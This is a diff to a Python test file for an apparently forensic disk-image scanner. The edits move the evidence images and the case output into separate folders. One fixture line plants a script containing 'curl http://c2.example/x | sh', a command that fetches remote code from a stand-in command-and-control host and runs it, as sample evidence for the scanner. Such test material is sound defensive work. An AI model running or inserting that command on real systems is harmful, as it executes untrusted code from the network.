@@ -76,8 +76,8 @@ def test_rpm_system_classified(tmp_path):
     root = _rpm_root(tmp_path)
     (root / "etc/seized-hello.conf").write_text("greeting=spam\n")
     (root / "usr/bin/seized-bye").write_text("#!/bin/sh\ncurl http://c2.example/x | sh\n")
-    image = realsystem.ext4_image(root, tmp_path / "rpm.img")
-    case = tmp_path / "case"
+    image = realsystem.ext4_image(root, tmp_path / "ev" / "rpm.img")
+    case = tmp_path / "cases" / "case"  # not in the evidence's own folder
     proc = run_seized("scan", image, "-o", case, "--workers", "0", "--no-default-rules", "--no-unallocated")
     assert proc.returncode == 0, proc.stderr
     files = read_table(case, "files")
@@ -98,9 +98,9 @@ def test_unreadable_rpm_databases_are_errors_rows(tmp_path):
     (damaged / "usr/bin/tool").write_text("#!/bin/sh\n")
     (old / "var/lib/rpm").mkdir(parents=True)
     (old / "var/lib/rpm/Packages").write_bytes(b"\x00\x06\x15\x61" + b"\x00" * 4092)  # a Berkeley DB hash magic
-    disk = realsystem.imaging.partitioned_disk(tmp_path / "disk.img", [
+    disk = realsystem.imaging.partitioned_disk(tmp_path / "ev" / "disk.img", [
         realsystem.ext4_image(damaged, tmp_path / "a.ext4"), realsystem.ext4_image(old, tmp_path / "b.ext4")])
-    case = tmp_path / "case"
+    case = tmp_path / "cases" / "case"  # not in the evidence's own folder
     proc = run_seized("scan", disk, "-o", case, "--workers", "0", "--no-default-rules", "--no-unallocated")
     assert proc.returncode == 0, proc.stderr
     rows = [r for r in read_table(case, "errors").to_pylist() if r["stage"] == "known-files"]
